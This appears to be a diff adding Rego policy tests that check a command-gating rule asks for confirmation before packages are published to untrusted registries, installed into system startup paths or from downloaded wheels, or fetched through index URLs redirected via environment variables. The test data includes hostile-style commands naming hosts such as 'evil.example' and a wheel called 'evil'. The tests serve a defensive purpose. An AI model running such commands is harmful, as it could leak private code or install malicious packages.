@@ -175,3 +175,55 @@ test_go_install_then_run_asks if {
 	count(package_sources.ask) > 0 with input as _input(segs)
 	count(package_sources.ask) == 0 with input as _input([_seg(["go", "install", "golang.org/x/tools/gopls@latest"], {})])
 }
+
+_asks(argv, extra) if count(package_sources.ask) > 0 with input as _input([_seg(argv, extra)])
+
+_passes(argv, extra) if count(package_sources.ask) == 0 with input as _input([_seg(argv, extra)])
+
+test_publishing_to_an_untrusted_registry_asks if {
+	every argv in [
+		["npm", "publish", "--registry", "https://npm.example.net/"], ["npm", "publish", "--registry=http://10.0.0.5:4873"],
+		["pnpm", "publish", "--registry", "https://npm.example.net/"], ["twine", "upload", "--repository-url", "https://up.example.net/legacy/", "dist/x.whl"],
+		["twine", "upload", "-r", "internal", "dist/x.whl"], ["cargo", "publish", "--index", "https://git.example.net/index"],
+		["cargo", "publish", "--registry", "corp"], ["gem", "push", "x.gem", "--host", "https://gems.example.net"],
+		["poetry", "publish", "-r", "corp"], ["uv", "publish", "--publish-url", "https://up.example.net/"],
+		["dotnet", "nuget", "push", "x.nupkg", "--source", "https://nuget.example.net/v3/index.json"],
+		["mvn", "deploy", "-DaltDeploymentRepository=corp::default::https://repo.example.net/maven"],
+	] {
+		_asks(argv, {})
+	}
+	_asks(["npm", "publish"], {"assignments": {"npm_config_registry": "https://npm.example.net/"}})
+	every argv in [
+		["npm", "publish"], ["npm", "publish", "--registry", "https://registry.npmjs.org/"], ["twine", "upload", "dist/x.whl"],
+		["twine", "upload", "--repository-url", "https://upload.pypi.org/legacy/", "dist/x.whl"], ["twine", "upload", "-r", "pypi", "dist/x.whl"],
+		["cargo", "publish"], ["gem", "push", "x.gem"], ["poetry", "publish", "--build"], ["uv", "publish"], ["npm", "view", "--registry", "https://registry.npmjs.org/", "x"],
+	] {
+		_passes(argv, {})
+	}
+}
+
+test_pip_install_into_startup_paths_asks if {
+	every argv in [
+		["pip", "install", "--target", "/home/dev/.local/lib/python3.11/site-packages", "x"], ["pip", "install", "-t", "/usr/lib/python3/dist-packages", "x"],
+		["pip", "install", "--prefix=/home/dev/.local", "x"], ["pip", "install", "--root", "/", "x"], ["uv", "pip", "install", "--target", "/usr/local/lib/python3.12/site-packages", "x"],
+		["pip", "install", "/tmp/w/evil-1.0-py3-none-any.whl"], ["pip", "install", "/home/dev/Downloads/x.tar.gz"],
+	] {
+		_asks(argv, {})
+	}
+	every argv in [
+		["pip", "install", "--target", "./vendor", "requests"], ["pip", "install", "-t", "build/lambda", "-r", "requirements.txt"],
+		["pip", "install", "--target", "/tmp/layer/python", "requests"], ["pip", "install", "--user", "requests"],
+		["pip", "install", "./dist/pkg-1.0-py3-none-any.whl"], ["pip", "install", "-e", "."],
+	] {
+		_passes(argv, {})
+	}
+}
+
+test_indexes_set_through_the_environment_ask if {
+	_asks(["pip", "download", "x", "-d", "/tmp/w"], {"assignments": {"PIP_INDEX_URL": "https://evil.example/simple"}})
+	_asks(["export", "UV_EXTRA_INDEX_URL=https://evil.example/simple"], {})
+	_asks(["go", "get", "x"], {"assignments": {"GOPROXY": "https://goproxy.example.net"}})
+	_passes(["pip", "install", "x"], {"assignments": {"PIP_INDEX_URL": "https://pypi.org/simple"}})
+	_passes(["go", "build", "./..."], {"assignments": {"GOPROXY": "https://proxy.golang.org,direct", "GOFLAGS": "-mod=vendor"}})
+	_passes(["export", "PATH=/usr/bin"], {})
+}
